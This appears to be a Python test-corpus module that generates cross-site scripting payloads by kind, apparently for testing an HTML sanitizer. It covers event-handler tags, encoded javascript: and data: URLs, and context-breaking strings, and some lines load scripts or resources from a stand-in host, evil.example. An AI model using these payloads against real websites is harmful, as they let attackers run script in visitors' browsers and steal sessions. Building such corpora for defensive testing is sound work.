"""What attackers write in HTML, by kind. ``~`` stands for what parts a name from its attributes."""

from tests.security.corpus.grammar import Shape, filled

_GAPS = (" ", "/", "\n", "\t", "\f", "/x=1/", " x=y ", "//")
_VALUES = ('="@">', "='@'>", "=@>", "=@ ", ' = "@">')

# Elements that bring an event about by themselves.
_LOADING = (
    "<img~src=x onerror", "<IMG~SRC=x OnErRoR", "<img~src=/static/icon.svg onload", "<image~src=x onerror",
    "<svg~onload", "<SvG~OnLoad", "<body~onload", "<body~onpageshow", "<iframe~onload", "<video~src=x onerror",
    "<audio~src=x onerror", "<video><source~src=x onerror", "<input~type=image src=x onerror", "<embed~src=x onload",
    "<object~data=/x onerror", "<link~rel=stylesheet href=/x onerror", "<script~src=/x onerror", "<style~onload",
    "<details~open ontoggle", "<input~autofocus onfocus", "<select~autofocus onfocus", "<textarea~autofocus onfocus",
    "<button~autofocus onfocus", "<p~autofocus tabindex=1 onfocus", "<svg><image~href=x onerror",
    "<svg><animate~attributeName=x dur=1s onbegin", "<svg><set~attributeName=x onbegin", "<svg><script~href=/x onerror",
    "<math><mi~autofocus tabindex=1 onfocus",
)  # fmt: skip

# Elements that somebody has to touch.
_TOUCHED = (
    "a", "abbr", "b", "blockquote", "br", "cite", "code", "del", "em", "hr", "img", "li", "p", "pre", "q", "span", "td",
    "details", "summary", "font", "center", "xss", "a-b", "math", "svg", "button", "label", "table", "time", "ruby",
)  # fmt: skip
_EVENTS = (
    "onclick", "onmouseover", "onpointerenter", "onfocusin", "oncopy", "onkeydown", "onwheel", "ondragstart", "oninput",
    "onanimationstart", "ontransitionend", "oncontextmenu", "ondblclick", "onbeforetoggle", "ONCLICK", "onauxclick",
)  # fmt: skip

SPELT = (
    "javascript:@", "JaVaScRiPt:@", "java\tscript:@", "java&#9;script:@", "java&NewLine;script:@", "java&Tab;script:@",
    "&#106;avascript:@", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:@", "javascript&colon;@", " javascript:@",
    "&#1;javascript:@", "\njavascript:@", "javascript:/**/@", "javascript://%0a@", "javascript:%72an(§)",
    "\x01javascript:@", "jav\ra\nscript:@", "&#14;javascript:@", "javascript:void 0;@", "javascript&#0000058@",
    "javascript\n:@", "\ufeffjavascript:@",
)  # fmt: skip
_LEADING = (
    '<a href="^">x</a>', "<a~href='^'>x</a>", '<svg><a xlink:href="^"><text y="9">x</text></a></svg>',
    '<area href="^">', '<form action="^"><button>x</button></form>', '<form><button formaction="^">x</button></form>',
    '<iframe src="^"></iframe>', '<form><input type=submit formaction="^"></form>', '<math href="^"><mi>x</mi></math>',
    '<object data="^"></object>', '<a href="^" target=_self rel=opener>x</a>',
    '<svg><a href="^"><text y=9>x</text></a></svg>', '<embed src="^">', '<base href="^"><a href="">x</a>',
    '<meta http-equiv=refresh content="0;url=^">', '<img src="^">', '<video poster="^">',
    '<svg><a><animate attributeName=href values="^" /><text y=9>x</text></a></svg>', '<table background="^">',
    '<q cite="^">', '<a data-embed="^" data-src="^" href="https://x.example/">x</a>', '<div data-fragment="^">x</div>',
    '<a name="^" href="^">',
)  # fmt: skip
_OTHER = (
    "data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>", "DATA:text/html,<script>@</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-ran(§)+ADw-/script+AD4-", "vbscript:msgbox(§)", "livescript:@",
    "mocha:@", "view-source:javascript:@", "feed:javascript:@", "blob:javascript:@", "jar:javascript:@!/",
    "about:blank#@", "x-javascript:@",
)  # fmt: skip

_SCRIPTS = (
    "<script>@</script>", "<script >@</script >", "<SCRIPT>@</SCRIPT>", "<script/x>@</script/x>",
    "<script\n>@</script\n>", "<script type=module>@</script>", "<script type=text/ecmascript>@</script>", "<script>@",
    "<script async>@</script>", "<scr<script>ipt>@</scr</script>ipt>", "<<script>@//<</script>",
    "<script>/*</script><script>*/@</script>", "<script src=data:,@></script>", "<svg><script>@</script></svg>",
    "<svg><script>&#114;an(§)</script></svg>", "<svg><script href=data:,@ /></svg>", "<script>//\u2028@</script>",
    "<script charset=utf-8>@</script>", "<script nonce=''>@</script>", "<p><script>@</script></p>",
    "</p><script>@</script>", "<script>@<!--</script>", "<script><!--\n@</script>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>', "<script for=window event=onload>@</script>",
    "<script language=javascript>@</script>", "<script src=//evil.example/§></script>",
)  # fmt: skip

_ENDS = (
    "", "'", '"', "'>", '">', "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</iframe>", "</xmp>", "</select>", "</p>", "</a>", "*/", "?>", "%>", "</math>",
    "</svg>", "</p></div></main>",
)  # fmt: skip
_BEGINNINGS = ("", "https://x.example/", "ruth@example.org")
_THEN = (
    "<script>@</script>", "<img src=x onerror=@>", "<svg onload=@>", "<a href=javascript:@>x</a>",
    "<style onload=@></style>",
)  # fmt: skip
_IN_ATTRIBUTE = (
    "' autofocus tabindex=1 onfocus='@", '" autofocus tabindex=1 onfocus="@', "x autofocus tabindex=1 onfocus=@ ",
    "' onmouseover='@' x='", '" onmouseover="@" x="', '\\" autofocus onfocus=@ x=\\"', "&quot; onfocus=@ ",
    "&#39; onfocus=@ ", '" style="animation-name:x" onanimationstart="@', "x` onmouseover=`@", '\r\n" onclick="@',
    "'\tonclick='@' '", '"\fonclick="@"',
)  # fmt: skip
_IN_SCRIPT = (
    "'-@-'", '"-@-"', "';@;//", '";@;//', "`${@}`", "\\';@;//", '\\";@;//', "</script><script>@</script>", "*/@/*",
    "\u2028@//", "<!--<script>", "${@}", "\\u003cscript>@", '"}@//', "]};@//", "'}]</script><svg onload=@>", "\n@\n",
    "+@+", "{{@}}", "{%@%}",
)  # fmt: skip

_OUTSIDE = ("//evil.example/§", "https://evil.example/§", "&#47;/evil.example/§", "/\\\\evil.example/§")
_ASKING = (
    "<img src=^>", "<img srcset='^ 2x'>", "<picture><source srcset=^><img></picture>", "<link rel=stylesheet href=^>",
    "<video src=^>", "<video poster=^></video>", "<audio src=^ autoplay>", "<iframe src=^></iframe>", "<embed src=^>",
    "<object data=^></object>", "<style>@import '^';</style>", "<p style=\"background:url('^')\">x</p>",
    "<style>body{background:url(^)}</style>", "<link rel=preload as=image href=^>", "<link rel=icon href=^>",
    "<svg><image href=^ /></svg>", "<input type=image src=^>", "<table background=^><tr><td>x</table>",
    "<body background=^>", "<script src=^></script>", "<track src=^>", "<meta http-equiv=refresh content=0;url=^>",
    "<p style='list-style:url(^);display:list-item'>x</p>", "<p style='cursor:url(^),auto;content:url(^)'>x</p>",
    "<svg><feImage href=^ /></svg>", "<p style=\"background:u\\72l('^')\">x</p>",
    "<p style='background:image-set(\"^\" 1x)'>x</p>", "<ul style='list-style-image:url(^)'><li>x</ul>",
)  # fmt: skip

SHAPES = [
    Shape("script", [*_SCRIPTS, *(f"x{end}<script>@</script>x" for end in _ENDS)]),
    Shape("event by itself", filled([f"{one}{value}" for one in _LOADING for value in _VALUES], "~", (" ",))),
    Shape("gap", filled([f"{one}=@>" for one in _LOADING], "~", _GAPS)),
    Shape(
        "event by hand",
        filled(filled([f"<^ tabindex=1 ~{value}x</^>" for value in _VALUES], "^", _TOUCHED), "~", _EVENTS, step=5),
    ),
    Shape("protocol", filled(filled(_LEADING, "^", SPELT), "~", (" ",))),
    Shape("other protocol", filled(filled(_LEADING, "^", _OTHER), "~", ("/",))),
    Shape("breaker", [f"x{end}{then}" for end in _ENDS for then in _THEN]),
    Shape("attribute", [f"{start}{end}" for start in _BEGINNINGS for end in _IN_ATTRIBUTE]),
    Shape("script string", [f"{start}{end}" for start in ("", "x") for end in _IN_SCRIPT]),
    Shape("asking", filled(_ASKING, "^", _OUTSIDE)),
]
